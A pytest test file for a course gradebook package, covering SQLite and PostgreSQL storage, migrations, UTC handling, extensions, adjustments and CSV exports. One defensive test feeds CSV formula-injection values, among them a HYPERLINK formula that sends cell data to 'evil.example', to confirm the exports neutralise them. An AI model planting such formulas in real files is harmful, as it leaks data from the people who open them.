"""The gradebook on SQLite (default) and on a real PostgreSQL server started for the tests."""

from __future__ import annotations

import csv
import glob
import hashlib
import json
import shutil
import socket
import sqlite3
import subprocess
import tempfile
import threading
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import text

from aiml_course.errors import GradebookError
from aiml_course.gradebook import CaseRow, Gradebook, Submission, known_revisions
from aiml_course.grading.engine import CaseResult, NotebookGrade

PG_BIN = sorted(glob.glob("/usr/lib/postgresql/*/bin"))


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


@pytest.fixture(scope="module")
def postgres_url() -> Iterator[str]:
    """A throwaway PostgreSQL cluster on a Unix socket, owned by the postgres user; yields a SQLAlchemy URL."""
    if not PG_BIN or shutil.which("runuser") is None:
        pytest.skip("PostgreSQL server binaries are not installed (apt-get install postgresql)")
    bin_dir = Path(PG_BIN[-1])
    data = Path(tempfile.mkdtemp(prefix="aiml-pg-"))
    shutil.chown(data, "postgres", "postgres")
    port = _free_port()

    def as_postgres(*argv: str) -> None:
        subprocess.run(["runuser", "-u", "postgres", "--", *argv], check=True, capture_output=True, timeout=120)

    as_postgres(str(bin_dir / "initdb"), "-D", str(data / "db"), "-A", "trust", "-U", "postgres")
    as_postgres(str(bin_dir / "pg_ctl"), "-D", str(data / "db"), "-w", "-l", str(data / "log"), "-o",
                f"-p {port} -k {data} -c listen_addresses=''", "start")
    try:
        as_postgres(str(bin_dir / "createdb"), "-h", str(data), "-p", str(port), "gradebook")
        yield f"postgresql+psycopg://postgres@/gradebook?host={data}&port={port}"
    finally:
        as_postgres(str(bin_dir / "pg_ctl"), "-D", str(data / "db"), "-m", "immediate", "stop")
        shutil.rmtree(data, ignore_errors=True)


@pytest.fixture(params=["sqlite", "postgresql"])
def gradebook(request: pytest.FixtureRequest, tmp_path: Path) -> Gradebook:
    if request.param == "sqlite":
        return Gradebook(f"sqlite:///{tmp_path / 'gradebook.sqlite'}")
    book = Gradebook(request.getfixturevalue("postgres_url"))
    with book.session() as s:  # the server outlives one test: start each test empty
        s.query(CaseRow).delete()
        s.query(Submission).delete()
    return book


def _grade(notebook: str, earned: list[float]) -> NotebookGrade:
    cases = [CaseResult(f"c{i}", "q1" if i < 2 else "q2", i % 2 == 1, e, 1.0, "msg") for i, e in enumerate(earned)]
    return NotebookGrade(notebook, cases)


WHEN = datetime(2026, 3, 5, 12, 0, tzinfo=UTC)


def test_record_and_read_back_per_question(gradebook: Gradebook) -> None:
    """Are per-question points summed from the case rows and read back with the submission time?"""
    gradebook.record("ann", "part-02", _grade("2.1", [1, 0, 1]), content_sha256="a" * 64, submitted_at=WHEN)
    (row,) = gradebook.latest("part-02")
    assert row["questions"] == {"q1": (1.0, 2.0), "q2": (1.0, 1.0)}
    assert row["earned"] == 2 and row["submitted_at"] == WHEN


def test_regrading_the_same_submission_replaces_its_rows(gradebook: Gradebook) -> None:
    """Does grading the same content again replace (not duplicate) its case rows?"""
    for earned in ([0, 0, 0], [1, 1, 1], [1, 0, 1]):
        gradebook.record("ben", "part-02", _grade("2.1", earned), content_sha256="b" * 64, submitted_at=WHEN)
    with gradebook.session() as s:
        assert s.query(Submission).filter_by(student_id="ben").count() == 1
        assert s.query(CaseRow).count() == 3
    assert gradebook.latest("part-02")[0]["earned"] == 2


def test_the_latest_submission_counts(gradebook: Gradebook) -> None:
    """With two different submissions, is the later one the one reported?"""
    gradebook.record("cat", "part-02", _grade("2.1", [1, 1, 1]), content_sha256="c" * 64, submitted_at=WHEN)
    later = WHEN.replace(hour=13)
    gradebook.record("cat", "part-02", _grade("2.1", [0, 0, 1]), content_sha256="d" * 64, submitted_at=later)
    (row,) = gradebook.latest("part-02")
    assert row["earned"] == 1 and row["submitted_at"] == later


def test_parallel_writers_lose_and_duplicate_nothing(gradebook: Gradebook) -> None:
    """Do 8 threads recording 40 grades at once (some the same submission twice) leave exactly 20 rows?"""
    errors: list[BaseException] = []

    def work(n: int) -> None:
        try:
            for i in range(5):
                k = (n * 5 + i) % 20  # every submission recorded twice, by different threads
                gradebook.record(f"s{k:02d}", "part-02", _grade("2.1", [1, 0, 1]),
                                 content_sha256=f"{k:064d}", submitted_at=WHEN)
        except BaseException as exc:
            errors.append(exc)

    threads = [threading.Thread(target=work, args=(n,)) for n in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert errors == []  # a lost insert race is retried inside record(), never surfaced
    with gradebook.session() as s:
        assert s.query(Submission).count() == 20
        assert s.query(CaseRow).count() == 60


def test_an_unreachable_database_is_a_clear_error() -> None:
    """Does a bad URL give a GradebookError naming the URL, not a raw driver traceback?"""
    with pytest.raises(GradebookError, match="cannot open the gradebook"):
        Gradebook("postgresql+psycopg://nobody@/nope?host=/nonexistent&port=1")


def test_extensions_move_the_deadline_in_the_export(tmp_path: Path) -> None:
    """Does `course extend` remove a late penalty, appear in the CSV, and refuse unknown students?"""
    import csv

    from click.testing import CliRunner

    from aiml_course.cli import main
    from aiml_course.config import load_course
    from aiml_course.export import export_cohorts, export_csv, export_lms
    from tests.conftest import MINI

    root = tmp_path / "mini"
    shutil.copytree(MINI, root)
    course = load_course(root / "course_config.py")
    db = f"sqlite:///{tmp_path / 'g.sqlite'}"
    book = Gradebook(db)
    late = datetime(2026, 1, 12, 9, 0, tzinfo=UTC)  # two days after the 2026-01-10 12:00 deadline
    for student in ("ann", "bob"):
        book.record(student, "part-01-mini", _grade("1.1-mini", [1, 1, 1]), content_sha256=student * 32,
                    submitted_at=late)
    cfg = ["--config", str(root / "course_config.py")]
    ok = CliRunner().invoke(main, [*cfg, "extend", "ann", "part-01", "--until", "2026-01-13T00:00+00:00",
                                   "--reason", "ill", "--db", db])
    assert ok.exit_code == 0 and "now due 2026-01-13" in ok.output
    unknown = CliRunner().invoke(main, [*cfg, "extend", "zed", "part-01", "--until", "2026-01-13T00:00+00:00",
                                        "--db", db])
    assert unknown.exit_code == 2 and "unknown student 'zed'" in unknown.output
    naive = CliRunner().invoke(main, [*cfg, "extend", "ann", "part-01", "--until", "2026-01-13", "--db", db])
    assert naive.exit_code == 2 and "time zone" in naive.output
    rows = {r["student"]: r for r in csv.DictReader(export_csv(course, book, tmp_path / "g.csv").open())}
    assert rows["ann"]["part-01-mini:late_penalty"] == "0.0"
    assert rows["ann"]["part-01-mini:deadline"].startswith("2026-01-13")
    assert float(rows["bob"]["part-01-mini:late_penalty"]) > 0
    canvas = list(csv.DictReader(export_lms(course, book, tmp_path / "c.csv", lms="canvas").open()))
    assert canvas[0]["SIS User ID"] == "ann" and float(canvas[0]["Mini"]) > float(canvas[1]["Mini"])
    moodle = list(csv.DictReader(export_lms(course, book, tmp_path / "m.csv", lms="moodle").open()))
    assert list(moodle[0]) == ["ID number", "Mini"]
    adjusted = CliRunner().invoke(main, [*cfg, "adjust", "bob", "part-01", "1.1-mini:q2", "--points", "-0.5",
                                         "--reason", "copied the loop from a classmate", "--db", db])
    assert adjusted.exit_code == 0, adjusted.output
    no_reason = CliRunner().invoke(main, [*cfg, "adjust", "bob", "part-01", "1.1-mini:q2", "--points", "1",
                                          "--reason", " ", "--db", db])
    assert no_reason.exit_code == 2 and "needs a reason" in no_reason.output
    over = CliRunner().invoke(main, [*cfg, "adjust", "ann", "part-01", "1.1-mini:q1", "--points", "10",
                                     "--reason", "generous", "--db", db])
    assert over.exit_code == 0
    rows = {r["student"]: r for r in csv.DictReader(export_csv(course, book, tmp_path / "g2.csv").open())}
    assert rows["bob"]["part-01-mini/1.1-mini:q2"] == "0.5" and rows["ann"]["part-01-mini/1.1-mini:q1"] == "4.0"
    cohorts = list(csv.DictReader(export_cohorts(course, book, tmp_path / "k.csv").open()))
    assert cohorts[0]["cohort"] == "default" and cohorts[0]["students"] == "2"


def test_migrations_build_exactly_the_models_schema(gradebook: Gradebook) -> None:
    """Does `alembic upgrade head` (run on open) produce the tables the models describe, with no differences?"""
    from alembic.autogenerate import compare_metadata
    from alembic.migration import MigrationContext

    from aiml_course.schema import all_metadata

    with gradebook.engine.connect() as connection:
        diffs = compare_metadata(MigrationContext.configure(connection), all_metadata())
        version = connection.exec_driver_sql("SELECT version_num FROM alembic_version").scalar()
    assert diffs == [] and version == _head()


def test_a_gradebook_from_before_migrations_is_stamped_and_kept(tmp_path: Path) -> None:
    """Is a database made by create_all (no alembic_version) adopted without losing its rows?"""
    from sqlalchemy import create_engine

    from aiml_course.schema import all_metadata

    url = f"sqlite:///{tmp_path / 'old.sqlite'}"
    engine = create_engine(url)
    all_metadata().create_all(engine)
    with engine.begin() as c:
        c.exec_driver_sql("INSERT INTO students (id, name, email, cohort, active) VALUES ('old', '', '', 'a', 1)")
    book = Gradebook(url)
    assert [s.id for s in book.students()] == ["old"]
    with book.engine.connect() as c:
        assert c.exec_driver_sql("SELECT version_num FROM alembic_version").scalar() == _head()


def _head() -> str:
    """The newest revision in src/aiml_course/migrations/versions (one head: the history never branches)."""
    from alembic.script import ScriptDirectory

    from aiml_course.gradebook import _alembic_config

    (head,) = ScriptDirectory.from_config(_alembic_config(None)).get_heads()
    return str(head)


# ---------------------------------------------------------------- issue 11: right numbers in every corner

PLUS5 = timezone(timedelta(hours=5))


def _course_with_two_notebooks(tmp_path: Path) -> Any:
    """The mini course, with a second notebook (a copy of 1.1-mini's bundle) in its only part."""
    from aiml_course.config import load_course
    from tests.conftest import MINI

    root = tmp_path / "mini"
    shutil.copytree(MINI, root, ignore=shutil.ignore_patterns(".course-cache", "var"))
    folder = root / "autograder" / "part-01-mini"
    bundle = json.loads((folder / "1.1-mini.bundle.json").read_text())
    bundle["notebook"] = "1.2-mini"
    (folder / "1.2-mini.bundle.json").write_text(json.dumps(bundle))
    return load_course(root / "course_config.py")


def test_a_notebook_not_handed_in_makes_nothing_late(tmp_path: Path) -> None:
    """Grading a student with one notebook handed in on time and one missing: is the part on time (the missing
    notebook has no time), and does the missing notebook score 0?"""
    from aiml_course.export import grade_rows
    from aiml_course.grading.pipeline import find_submissions
    from aiml_course.grading.report import deadline_line

    course = _course_with_two_notebooks(tmp_path)
    subs = tmp_path / "subs" / "ann"
    subs.mkdir(parents=True)
    (subs / "1.1-mini.ipynb").write_text("{}")
    (subs / "timestamp.txt").write_text("2026-01-09 10:00:00.000000 UTC")
    found = {s.notebook: s for s in find_submissions(tmp_path / "subs", "part-01-mini", ["1.1-mini", "1.2-mini"])}
    assert found["1.2-mini"].path is None and found["1.2-mini"].submitted_at is None
    book = Gradebook(f"sqlite:///{tmp_path / 'g.sqlite'}")
    on_time = found["1.1-mini"].submitted_at
    assert on_time == datetime(2026, 1, 9, 10, 0, tzinfo=UTC)
    book.record("ann", "part-01-mini", _grade("1.1-mini", [1, 1, 1]), content_sha256="a" * 64, submitted_at=on_time)
    book.record("ann", "part-01-mini", _grade("1.2-mini", [0, 0, 0]), content_sha256="missing", submitted_at=None)
    by_notebook = {r["notebook"]: r for r in book.latest("part-01-mini")}
    assert by_notebook["1.2-mini"]["submitted_at"] is None
    _, (row,) = grade_rows(course, book)
    assert row["part-01-mini:late_penalty"] == 0.0
    assert row["part-01-mini/1.2-mini:q1"] == 0.0 and row["part-01-mini:raw"] > 0
    assert deadline_line(course, "part-01-mini", None, None).endswith("· not handed in")  # its feedback report


def test_offsets_are_stored_as_utc_on_both_databases(gradebook: Gradebook, tmp_path: Path) -> None:
    """A submission and an extension given at +05:00: read back as the same instant in UTC (SQLite keeps no
    offset), and the export agrees (16:00+05:00 on the due day is 11:00 UTC, before the 12:00 UTC deadline)."""
    from aiml_course.config import load_course
    from aiml_course.export import grade_rows
    from tests.conftest import MINI

    root = tmp_path / "mini"
    shutil.copytree(MINI, root, ignore=shutil.ignore_patterns(".course-cache", "var"))
    course = load_course(root / "course_config.py")
    student = f"tz-{gradebook.engine.dialect.name}"
    handed_in = datetime(2026, 1, 10, 16, 0, tzinfo=PLUS5)
    gradebook.record(student, "part-01-mini", _grade("1.1-mini", [1, 1, 1]), content_sha256="e" * 64,
                     submitted_at=handed_in)
    until = datetime(2026, 1, 11, 4, 0, tzinfo=PLUS5)    # 2026-01-10 23:00 UTC
    gradebook.grant_extension(student, "part-01-mini", until, reason="timezone test")
    (row,) = gradebook.latest("part-01-mini", student=student)
    assert row["submitted_at"] == handed_in and row["submitted_at"].utcoffset() == timedelta(0)
    assert row["submitted_at"].hour == 11
    assert gradebook.extensions()[(student, "part-01-mini")] == until
    with gradebook.engine.connect() as c:
        raw = c.execute(text("SELECT submitted_at FROM submissions WHERE student_id = :s"), {"s": student}).scalar()
    assert "11:00" in str(raw)  # the UTC wall time is what the database holds
    rows = {r["student"]: r for r in grade_rows(course, gradebook)[1]}
    assert rows[student]["part-01-mini:late_penalty"] == 0.0
    assert rows[student]["part-01-mini:deadline"] == "2026-01-10T23:00:00+00:00"


def test_naive_or_out_of_range_submission_times_are_clear_errors(gradebook: Gradebook) -> None:
    """A time without a zone, or one with no UTC equivalent (year 1 at +14:00), is refused by name."""
    with pytest.raises(GradebookError, match="needs a time zone"):
        gradebook.record("nz", "p", _grade("2.1", [1]), content_sha256="n" * 64, submitted_at=datetime(2026, 1, 1))
    early = datetime(1, 1, 1, tzinfo=timezone(timedelta(hours=14)))
    with pytest.raises(GradebookError, match="no UTC equivalent"):
        gradebook.record("nz", "p", _grade("2.1", [1]), content_sha256="n" * 64, submitted_at=early)
    gradebook.ensure_student("nz")
    with pytest.raises(GradebookError, match="no UTC equivalent"):
        gradebook.grant_extension("nz", "p", early)


def test_going_back_to_an_earlier_version_grades_it_again(gradebook: Gradebook) -> None:
    """A, then B, then A again: is A no longer 'already graded' once B came, and is A's grade the one that counts?"""
    args = {"content_sha256": "a" * 64}
    gradebook.record("abc", "part-02", _grade("2.1", [1, 1, 1]), submitted_at=WHEN, **args)
    assert gradebook.is_graded("abc", "part-02", "2.1", "a" * 64)
    gradebook.record("abc", "part-02", _grade("2.1", [0, 0, 0]), content_sha256="b" * 64,
                     submitted_at=WHEN + timedelta(hours=1))
    assert not gradebook.is_graded("abc", "part-02", "2.1", "a" * 64)
    assert gradebook.is_graded("abc", "part-02", "2.1", "b" * 64)
    gradebook.record("abc", "part-02", _grade("2.1", [1, 1, 1]), submitted_at=WHEN + timedelta(hours=2), **args)
    (row,) = gradebook.latest("part-02", student="abc")
    assert row["earned"] == 3
    assert gradebook.is_graded("abc", "part-02", "2.1", "a" * 64)


def test_adjust_refuses_unknown_questions_and_non_finite_points(tmp_path: Path) -> None:
    """`course adjust` with an unknown question, inf or nan: a clear error (exit 2), nothing written."""
    from click.testing import CliRunner

    from aiml_course.cli import main
    from tests.conftest import MINI

    root = tmp_path / "mini"
    shutil.copytree(MINI, root, ignore=shutil.ignore_patterns(".course-cache", "var"))
    db = f"sqlite:///{tmp_path / 'g.sqlite'}"
    book = Gradebook(db)
    book.record("ann", "part-01-mini", _grade("1.1-mini", [1, 1, 1]), content_sha256="a" * 64, submitted_at=WHEN)
    cfg = ["--config", str(root / "course_config.py")]

    def adjust(target: str, points: str) -> Any:
        return CliRunner().invoke(main, [*cfg, "adjust", "ann", "part-01", target, "--points", points,
                                         "--reason", "a reason", "--db", db])

    unknown = adjust("1.1-mini:q9", "1")
    assert unknown.exit_code == 2 and "no question 1.1-mini:q9" in unknown.output
    assert "1.1-mini:q1" in unknown.output  # the message lists the real questions
    assert adjust("9.9-nope:q1", "1").exit_code == 2
    for bad in ("inf", "-inf", "nan"):
        result = adjust("1.1-mini:q1", bad)
        assert result.exit_code == 2 and "finite number" in result.output, result.output
        assert "Traceback" not in result.output
    assert book.adjustments() == {}
    with pytest.raises(GradebookError, match="finite"):
        book.adjust("ann", "part-01-mini", "1.1-mini", "q1", float("nan"), by="x", reason="library call")
    assert adjust("1.1-mini:q1", "-0.5").exit_code == 0
    assert book.adjustments() == {("ann", "part-01-mini", "1.1-mini", "q1"): -0.5}


def test_a_gradebook_from_a_newer_release_is_refused_untouched(tmp_path: Path) -> None:
    """A schema revision this release does not know: one clear error, and not a byte of the file changed."""
    path = tmp_path / "g.sqlite"
    book = Gradebook(f"sqlite:///{path}")
    with book.engine.begin() as c:
        c.exec_driver_sql("UPDATE alembic_version SET version_num = '9999_from_the_future'")
    book.engine.dispose()
    before = hashlib.sha256(path.read_bytes()).hexdigest()
    with pytest.raises(GradebookError, match=r"newer release[\s\S]*9999_from_the_future[\s\S]*untouched"):
        Gradebook(f"sqlite:///{path}")
    assert hashlib.sha256(path.read_bytes()).hexdigest() == before


def test_a_newer_postgresql_gradebook_is_refused(postgres_url: str) -> None:
    """The same on PostgreSQL: the revision check runs before any migration."""
    book = Gradebook(postgres_url)
    _, head = known_revisions()
    try:
        with book.engine.begin() as c:
            c.exec_driver_sql("UPDATE alembic_version SET version_num = '9999_from_the_future'")
        with pytest.raises(GradebookError, match="newer release"):
            Gradebook(postgres_url)
    finally:
        with book.engine.begin() as c:
            c.exec_driver_sql(f"UPDATE alembic_version SET version_num = '{head}'")


def test_an_unrelated_sqlite_file_is_refused_untouched(tmp_path: Path) -> None:
    """Another application's SQLite database: one clear error; no table added, no journal mode changed."""
    path = tmp_path / "recipes.sqlite"
    with sqlite3.connect(path) as c:
        c.execute("CREATE TABLE recipes (name TEXT, minutes INTEGER)")
        c.execute("INSERT INTO recipes VALUES ('soup', 30)")
    c.close()
    before = hashlib.sha256(path.read_bytes()).hexdigest()
    with pytest.raises(GradebookError, match="not a gradebook") as caught:
        Gradebook(f"sqlite:///{path}")
    assert "recipes" in str(caught.value) and "untouched" in str(caught.value)
    assert hashlib.sha256(path.read_bytes()).hexdigest() == before
    assert not Path(f"{path}-wal").exists()


def test_an_old_gradebook_is_migrated_with_its_rows_and_missing_notebooks_lose_their_time(tmp_path: Path) -> None:
    """A gradebook at 0003 (foreign keys on, case rows under submissions): does 0004 keep every case row (the
    table rebuild must not cascade), and does a 'missing' row lose its made-up time?"""
    from alembic import command
    from sqlalchemy import create_engine

    from aiml_course.gradebook import _alembic_config

    url = f"sqlite:///{tmp_path / 'old.sqlite'}"
    engine = create_engine(url)
    with engine.begin() as c:
        command.upgrade(_alembic_config(c), "0003")
        c.exec_driver_sql("INSERT INTO students (id, name, email, cohort, active) VALUES ('old', '', '', 'a', 1)")
        for n, sha in enumerate(("a" * 64, "missing")):
            c.exec_driver_sql("INSERT INTO submissions (id, student_id, part, notebook, content_sha256, submitted_at,"
                              " graded_at, earned, possible, problem, seconds) VALUES "
                              f"({n + 1}, 'old', 'p', 'nb{n}', '{sha}', '2026-01-01 10:00:00', "
                              "'2026-01-01 10:00:00', 1, 2, '', 0)")
            c.exec_driver_sql("INSERT INTO case_results (submission_id, question, \"case\", hidden, earned, possible,"
                              f" message) VALUES ({n + 1}, 'q', 'c', 0, 1, 2, '')")
    engine.dispose()
    book = Gradebook(url)
    with book.session() as s:
        assert s.query(CaseRow).count() == 2
    times = {r["notebook"]: r["submitted_at"] for r in book.latest("p")}
    assert times == {"nb0": datetime(2026, 1, 1, 10, 0, tzinfo=UTC), "nb1": None}


READ_ONLY_EXPORT = """
import sys
from pathlib import Path
from aiml_course.config import load_course
from aiml_course.export import export_csv
from aiml_course.gradebook import Gradebook
book = Gradebook(sys.argv[1])
print(book.read_only, export_csv(load_course(Path(sys.argv[2])), book, Path(sys.argv[3])))
"""


def test_export_from_a_read_only_gradebook(tmp_path: Path) -> None:
    """A gradebook file and folder this process cannot write (run as nobody when the tests run as root): does the
    export work, without changing the file?"""
    import os
    import subprocess
    import sys

    from tests.conftest import MINI

    base = Path(tempfile.mkdtemp(prefix="aiml-ro-"))
    try:
        os.chmod(base, 0o755)
        shutil.copytree(MINI, base / "mini", ignore=shutil.ignore_patterns(".course-cache", "var"))
        folder = base / "book"
        folder.mkdir()
        path = folder / "g.sqlite"
        book = Gradebook(f"sqlite:///{path}")
        book.record("ann", "part-01-mini", _grade("1.1-mini", [1, 0, 1]), content_sha256="a" * 64, submitted_at=WHEN)
        book.engine.dispose()
        out = base / "out"
        out.mkdir()
        os.chmod(out, 0o777)
        for p in (path, folder):
            os.chmod(p, 0o555 if p.is_dir() else 0o444)
        for p in base.joinpath("mini").rglob("*"):
            os.chmod(p, 0o755 if p.is_dir() else 0o644)
        before = hashlib.sha256(path.read_bytes()).hexdigest()
        argv = [sys.executable, "-c", READ_ONLY_EXPORT, f"sqlite:///{path}", str(base / "mini" / "course_config.py"),
                str(out / "grades.csv")]
        if os.geteuid() == 0:
            argv = ["runuser", "-u", "nobody", "--", *argv]
        env = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path), "HOME": str(out)}
        result = subprocess.run(argv, capture_output=True, text=True, env=env, timeout=120, cwd=out)
        assert result.returncode == 0, result.stderr
        assert result.stdout.startswith("True ")
        rows = list(csv.DictReader((out / "grades.csv").open()))
        assert rows[0]["student"] == "ann" and float(rows[0]["part-01-mini:raw"]) > 0
        assert hashlib.sha256(path.read_bytes()).hexdigest() == before
        assert sorted(p.name for p in folder.iterdir()) == ["g.sqlite"]
    finally:
        for p in (base / "book",):
            if p.exists():
                os.chmod(p, 0o755)
        shutil.rmtree(base, ignore_errors=True)


@pytest.mark.parametrize("nasty", ["=HYPERLINK(\"https://evil.example/?\"&C2,\"x\")", "+1+1", "-2+3", "@SUM(A1)",
                                   "\tcmd", "\rcmd", "＝1+1"])
def test_formulas_in_names_and_ids_are_neutralised_in_every_export(tmp_path: Path, nasty: str) -> None:
    """Names, ids and cohorts starting with = + - @ tab or CR: read back from each CSV, every text cell is the
    value with a leading apostrophe (OWASP), and numbers are still numbers."""
    from aiml_course.config import load_course
    from aiml_course.csv_safe import FORMULA_STARTS, csv_text
    from aiml_course.export import export_cohorts, export_csv, export_lms
    from tests.conftest import MINI

    root = tmp_path / "mini"
    shutil.copytree(MINI, root, ignore=shutil.ignore_patterns(".course-cache", "var"))
    course = load_course(root / "course_config.py")
    book = Gradebook(f"sqlite:///{tmp_path / 'g.sqlite'}")
    book.ensure_student(nasty, cohort=nasty, name=nasty)
    book.record(nasty, "part-01-mini", _grade("1.1-mini", [1, 1, 1]), content_sha256="a" * 64, submitted_at=WHEN)
    files = {"full": export_csv(course, book, tmp_path / "full.csv"),
             "canvas": export_lms(course, book, tmp_path / "canvas.csv", lms="canvas"),
             "moodle": export_lms(course, book, tmp_path / "moodle.csv", lms="moodle"),
             "cohorts": export_cohorts(course, book, tmp_path / "cohorts.csv")}
    (tmp_path / "dashboard.csv").write_text(csv_text(["student", "cohort", "score"],
                                                     [{"student": nasty, "cohort": nasty, "score": -1.5}]))
    files["dashboard"] = tmp_path / "dashboard.csv"
    for kind, path in files.items():
        with path.open(newline="", encoding="utf-8") as f:
            cells = [cell for row in csv.reader(f) for cell in row]
        assert not [c for c in cells if c.startswith(FORMULA_STARTS) and not _is_number(c)], (kind, cells)
        assert "'" + nasty in cells, (kind, cells)
    assert "-1.5" in files["dashboard"].read_text().split(",")[-1]  # a number stays a (negative) number
    assert list(tmp_path.glob("*.tmp")) == [] and list(tmp_path.glob(".*.tmp")) == []


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_a_report_not_written_is_written_on_the_next_run(tmp_path: Path) -> None:
    """The grade was saved but the process died before the feedback report was written: does the next run (no
    --force) write it, while a graded submission with its report is still skipped?"""
    from aiml_course.config import Limits, load_course
    from aiml_course.grading.pipeline import grade_part
    from aiml_course.sandbox import LocalSandbox
    from tests.conftest import MINI

    root = tmp_path / "mini"
    shutil.copytree(MINI, root, ignore=shutil.ignore_patterns(".course-cache", "var"))
    course = load_course(root / "course_config.py")
    for student in ("ann", "bob"):
        (tmp_path / "subs" / student).mkdir(parents=True)
        shutil.copy(root / "release" / "part-01-mini" / "1.1-mini.ipynb", tmp_path / "subs" / student)
    book = Gradebook(f"sqlite:///{tmp_path / 'g.sqlite'}")
    box, reports = LocalSandbox(Limits(wall_seconds=60, cell_seconds=20)), tmp_path / "feedback"
    first = grade_part(course, "part-01-mini", tmp_path / "subs", gradebook=book, sandbox=box, reports=reports,
                       show_progress=False)
    assert len(first.graded) == 2
    (reports / "ann" / "1.1-mini.json").unlink()  # as if the grader died between the grade and its report
    (reports / "ann" / "1.1-mini.html").unlink()
    again = grade_part(course, "part-01-mini", tmp_path / "subs", gradebook=book, sandbox=box, reports=reports,
                       show_progress=False)
    assert [s for s, _ in again.graded] == ["ann"] and again.skipped == 1
    assert json.loads((reports / "ann" / "1.1-mini.json").read_text())["student"] == "ann"
    assert (reports / "ann" / "1.1-mini.html").is_file()
    assert not [p for p in reports.rglob("*") if p.name.endswith(".tmp")]


LAYER_CHECK = """
import sys
from aiml_course.gradebook import Gradebook
book = Gradebook(sys.argv[1])
book.latest()
features = sorted(m for m in sys.modules if m.startswith(("aiml_course.peer_review", "aiml_course.certificates",
                                                          "aiml_course.schema", "aiml_course.export",
                                                          "aiml_course.grading")))
print(features)
"""


def test_the_gradebook_imports_no_feature_built_on_it(tmp_path: Path) -> None:
    """Storage knows nothing of grading, peer review or certificates: importing the gradebook and opening one
    (migrations included) loads none of their modules, yet every table they declare exists."""
    import os
    import subprocess
    import sys

    from sqlalchemy import inspect

    from aiml_course.schema import all_metadata

    url = f"sqlite:///{tmp_path / 'g.sqlite'}"
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)}
    result = subprocess.run([sys.executable, "-c", LAYER_CHECK, url], capture_output=True, text=True, env=env,
                            timeout=120)
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == "[]"
    assert set(all_metadata().tables) <= set(inspect(Gradebook(url).engine).get_table_names())
    assert {"peer_reviews", "peer_assignments", "certificates"} <= set(all_metadata().tables)


def test_grading_a_b_then_a_again_counts_a(tmp_path: Path) -> None:
    """`course grade` three times: the stub (A, 0 points), then the source notebook (B, some points), then the
    stub again: is A graded again (not skipped as 'already graded') and does it count? timestamp.txt carries
    +05:00 and is read back as the same instant."""
    from aiml_course.config import Limits, load_course
    from aiml_course.grading.pipeline import grade_part
    from aiml_course.sandbox import LocalSandbox
    from tests.conftest import MINI

    root = tmp_path / "mini"
    shutil.copytree(MINI, root, ignore=shutil.ignore_patterns(".course-cache", "var"))
    course = load_course(root / "course_config.py")
    book = Gradebook(f"sqlite:///{tmp_path / 'g.sqlite'}")
    box = LocalSandbox(Limits(wall_seconds=60, cell_seconds=20))
    folder = tmp_path / "subs" / "ann"
    folder.mkdir(parents=True)
    versions = [("release", "2026-01-09T08:00:00+05:00"), ("source", "2026-01-09T09:00:00+05:00"),
                ("release", "2026-01-09T10:00:00+05:00")]
    earned = []
    for tree, when in versions:
        shutil.copy(root / tree / "part-01-mini" / "1.1-mini.ipynb", folder / "1.1-mini.ipynb")
        (folder / "timestamp.txt").write_text(when)
        summary = grade_part(course, "part-01-mini", tmp_path / "subs", gradebook=book, sandbox=box,
                             show_progress=False)
        assert summary.skipped == 0
        (row,) = book.latest("part-01-mini")
        assert row["submitted_at"] == datetime.fromisoformat(when)
        earned.append(row["earned"])
    assert earned[0] == 0 and earned[1] > 0 and earned[2] == 0
